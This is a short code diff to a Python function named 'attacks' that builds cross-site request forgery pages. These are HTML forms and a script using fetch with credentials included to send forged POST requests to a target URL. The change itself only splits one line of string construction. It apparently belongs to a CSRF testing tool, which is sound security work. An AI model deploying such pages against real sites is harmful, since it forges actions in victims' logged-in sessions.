@@ -26,7 +26,8 @@ def attacks(url: str, name: str) -> dict[str, str]:
         inputs = "".join(f'<input name="{key}" value="{value}">' for key, value in fields.items())
         pages[f"{path}/form"] = f'<form method="post" action="{url}{path}">{inputs}<button>Win</button></form>'
         call = f'fetch("{url}{path}", {{method: "POST", mode: "no-cors", credentials: "include", body: form}})'
-        script = f"const form = new URLSearchParams('{urlencode(fields)}'); {call}.finally(() => document.body.append('sent'))"
+        form = f"const form = new URLSearchParams('{urlencode(fields)}')"
+        script = f"{form}; {call}.finally(() => document.body.append('sent'))"
         pages[f"{path}/fetch"] = f"<body><script>{script}</script></body>"
     return pages
 
